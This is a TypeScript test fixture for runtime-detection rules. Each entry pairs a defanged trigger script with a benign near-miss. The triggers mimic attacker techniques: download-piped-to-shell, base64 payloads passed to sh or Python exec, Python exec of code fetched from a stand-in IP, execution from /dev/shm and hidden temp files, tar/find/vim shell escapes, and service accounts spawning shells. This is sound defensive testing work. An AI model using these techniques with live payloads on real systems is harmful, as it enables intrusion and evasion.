import type { Deed } from './deed.ts';

/** $L is the dynamic loader. */
const LOADER = `L=$(ldd /bin/true | sed -n 's|^[^/]*\\(/[^ ]*/ld-[^ ]*\\).*|\\1|p')`;

export const EXECUTION: readonly Deed[] = [
  {
    rule: 'exec_from_shared_memory',
    script: 'hide /dev/shm; cp /bin/true /dev/shm/x; /dev/shm/x',
    shows: '"path":"/dev/shm/x"',
    near: 'hide /dev/shm; : > /dev/shm/x; fake x /dev/shm/x',
  },
  {
    rule: 'download_piped_to_shell',
    script: "sh -c 'curl -s file:///dev/null | sh'",
    near: 'sh -c \'echo curl; echo "x | y" | cat\'; fake curl -s file:///dev/null',
  },
  {
    rule: 'service_spawns_shell',
    script: "as nginx /bin/dash; /opt/nginx -c '/bin/sh -c true; true'",
    shows: '"parent_path":"/opt/nginx"',
    near: "as nginx /bin/dash; /opt/nginx -c '/bin/true; true'",
  },
  {
    rule: 'service_spawns_tool',
    script: "as php-fpm8.2 /bin/dash; /opt/php-fpm8.2 -c '/usr/bin/id > /dev/null; true'",
    near: "as php-fpm8.2 /bin/dash; /opt/php-fpm8.2 -c '/bin/date > /dev/null; true'",
  },
  {
    rule: 'encoded_command_piped_to_shell',
    script: "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
    near: "sh -c 'echo dHJ1ZQo= | base64 -d > /dev/null'",
  },
  {
    rule: 'interpreter_decodes_and_runs',
    script: 'fake python3 -c "import base64; exec(base64.b64decode(\'cGFzcw==\'))"',
    near: 'fake python3 -c "import base64; print(base64.b64decode(\'cGFzcw==\'))"',
  },
  {
    rule: 'interpreter_downloads_and_runs',
    script: 'fake python3 -c "exec(urlopen(\'http://192.0.2.1/x\').read())"',
    near: 'fake python3 -c "print(urlopen(\'http://192.0.2.1/x\').read())"',
  },
  {
    rule: 'downloaded_program_run',
    script: 'as curl /bin/cp; /opt/curl /bin/true /opt/got; /opt/got',
    shows: '"path":"/opt/got"',
    near: 'as curl /bin/cp; /opt/curl /bin/true /opt/kept; cat /opt/kept > /dev/null',
  },
  {
    rule: 'downloaded_script_run',
    script: `as curl /bin/dash; /opt/curl -c 'echo "#!/bin/sh" > /opt/got.sh'
      chmod +x /opt/got.sh; /opt/got.sh`,
    shows: '"script":"/opt/got.sh"',
    near: `as curl /bin/dash; /opt/curl -c 'echo "#!/bin/sh" > /opt/kept.sh'; cat /opt/kept.sh`,
  },
  {
    rule: 'program_made_executable_and_run_in_temporary_folder',
    script: 'hide /var/tmp; cp /bin/true /var/tmp/p; chmod 755 /var/tmp/p; /var/tmp/p',
    near: 'hide /var/tmp; cp /bin/true /var/tmp/q; /var/tmp/q',
  },
  {
    rule: 'script_made_executable_and_run_in_temporary_folder',
    script: 'hide /var/tmp; echo "#!/bin/sh" > /var/tmp/m; chmod +x /var/tmp/m; /var/tmp/m',
    near: 'hide /var/tmp; cp /bin/true /var/tmp/x; /var/tmp/x',
  },
  {
    rule: 'hidden_program_in_temporary_folder',
    script: 'hide /var/tmp; cp /bin/true /var/tmp/.x; /var/tmp/.x',
    near: 'hide /var/tmp; : > /var/tmp/.x; cat /var/tmp/.x',
  },
  {
    rule: 'loader_runs_program',
    script: `cp /bin/true $S/loaded; ${LOADER}; $L $S/loaded`,
    near: `ldd /bin/true > /dev/null; ${LOADER}; $L --list /bin/true > /dev/null`,
  },
  {
    rule: 'archiver_runs_command',
    script:
      "cd $S; tar -cf /dev/null --checkpoint=1 --checkpoint-action='exec=true' /bin/true 2> /dev/null",
    near: 'cd $S; tar -cf /dev/null --checkpoint=1 /bin/true 2> /dev/null',
  },
  {
    rule: 'search_tool_starts_shell',
    script: 'find $S -maxdepth 0 -exec /bin/sh \\; < /dev/null',
    near: "find $S -maxdepth 0 -exec /bin/sh -c 'true $0' {} +",
  },
  { rule: 'editor_starts_shell', script: "fake vim -c ':!/bin/sh'", near: 'fake vim /bin/sh' },
  {
    rule: 'compiler_run_by_service_account',
    script: 'cp /bin/true /opt/gcc; setpriv --reuid www-data --clear-groups /opt/gcc x.c',
    near: 'fake gcc x.c',
  },
  {
    rule: 'interactive_shell_of_service_account',
    script: 'setpriv --reuid www-data --clear-groups /bin/sh -i < /dev/null 2> /dev/null',
    near: 'setpriv --reuid www-data --clear-groups /bin/sh -c true; sh -i < /dev/null 2> /dev/null',
  },
  {
    rule: 'terminal_made_by_interpreter',
    script: 'fake python3 -c "import pty; pty.spawn(\'/bin/bash\')"',
    near: 'fake script -qc true $S/typescript',
  },
  {
    rule: 'command_obfuscated',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's variable
    script: "sh -c 'echo${IFS}hidden > /dev/null'",
    near: "sh -c 'IFS=,; echo plain > /dev/null'",
  },
  {
    rule: 'office_program_spawns_shell',
    script: "as soffice.bin /bin/dash; /opt/soffice.bin -c '/bin/sh -c true; true'",
    near: "as soffice.bin /bin/dash; /opt/soffice.bin -c '/bin/true; true'",
  },
  {
    rule: 'java_spawns_suspicious_shell',
    script: `as java /bin/dash; /opt/java -c '/bin/sh -c "true whoami"; true'`,
    near: `as java /bin/dash; /opt/java -c '/bin/sh -c "true build"; true'`,
  },
];
